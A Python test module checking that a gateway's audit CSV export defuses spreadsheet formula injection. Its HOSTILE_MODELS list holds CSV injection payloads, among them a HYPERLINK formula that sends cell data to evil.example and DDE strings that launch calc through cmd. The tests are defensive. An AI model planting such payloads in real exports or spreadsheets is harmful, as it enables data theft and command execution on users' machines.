"""The audit CSV export never hands a spreadsheet a formula (OWASP CSV injection).

Model names (up to 256 characters of the caller's choosing) and stored events written before
ids were validated reach CSV cells; the export prefixes any string cell a spreadsheet would
evaluate with ``'``, through the admin API and through ``wardgate audit export``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import httpx
import openai
import pytest
from typer.testing import CliRunner

from gateway.audit.cli import app as audit_cli
from gateway.audit.export import CSV_COLUMNS, neutralise
from tests.harness import (
    AUDITOR_KEY,
    PASS_THROUGH,
    TEST_KEY,
    RunningGateway,
    gateway_settings,
    running_gateway,
)

#: Model names an attacker sends so that the audit CSV would run them in a spreadsheet.
HOSTILE_MODELS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.fixture(scope="module")
def gw(fake_upstream, tmp_path_factory) -> Iterator[RunningGateway]:
    root = tmp_path_factory.mktemp("audit-csv")
    settings = gateway_settings(root, fake_upstream.base_url, **{**PASS_THROUGH, "audit": {"enabled": True}})
    with running_gateway(settings) as running:
        yield running


@pytest.fixture(scope="module")
def audited(gw: RunningGateway) -> RunningGateway:
    """One call per hostile model name (each a 404 model_not_found, audited), and a normal one."""
    client = openai.OpenAI(base_url=gw.base_url, api_key=TEST_KEY, max_retries=0)
    for model in HOSTILE_MODELS:
        with pytest.raises(openai.NotFoundError):
            client.chat.completions.create(model=model, messages=[{"role": "user", "content": "hi"}])
    client.chat.completions.create(model="gpt-test", messages=[{"role": "user", "content": "hi"}])
    return gw


def _rows(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and list(rows[0]) == list(CSV_COLUMNS)
    return [r for r in rows if r["kind"] == "call"]


def _assert_inert(rows: list[dict[str, str]]) -> None:
    models = {r["model"] for r in rows}
    assert models == {"'" + m for m in HOSTILE_MODELS} | {"gpt-test"}
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), (column, cell)
    # Numbers stay numbers: the status and token columns are not prefixed.
    assert {r["status"] for r in rows} == {"404", "200"}
    assert all(r["input_tokens"].isdigit() for r in rows if r["status"] == "200")


def test_csv_export_over_the_admin_api_prefixes_formula_cells(audited: RunningGateway) -> None:
    resp = httpx.get(
        f"{audited.url}/admin/audit/export",
        params={"format": "csv"},
        headers={"authorization": f"Bearer {AUDITOR_KEY}"},
    )
    assert resp.status_code == 200, resp.text
    _assert_inert(_rows(resp.text))


def test_csv_export_through_the_cli_prefixes_formula_cells(audited: RunningGateway, tmp_path) -> None:
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(
        audit_cli,
        ["export", "--format", "csv", "-o", str(out), "--url", audited.url, "--admin-key", AUDITOR_KEY],
        env={"WARDGATE_URL": "", "WARDGATE_ADMIN_KEY": ""},
    )
    assert result.exit_code == 0, result.output
    _assert_inert(_rows(out.read_bytes().decode()))


def test_jsonl_export_keeps_the_exact_model_name(audited: RunningGateway) -> None:
    """The prefix is a CSV concern: the JSONL export (and the hash chain) hold the real value."""
    resp = httpx.get(
        f"{audited.url}/admin/audit/export",
        params={"format": "jsonl"},
        headers={"authorization": f"Bearer {AUDITOR_KEY}"},
    )
    assert resp.status_code == 200
    assert HOSTILE_MODELS[0].replace('"', '\\"') in resp.text


@pytest.mark.parametrize(
    "cell", ["=1", "+1", "-1", "@a", "\t1", "\r1", " \t=1", "\uff0b1", "\uff20a", "\uff0d1"]
)
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["planner", "run-1", "a=b", "", "'=quoted", -1, -0.5, 3, None, True])
def test_plain_text_and_numbers_are_left_alone(cell: object) -> None:
    assert neutralise(cell) == cell
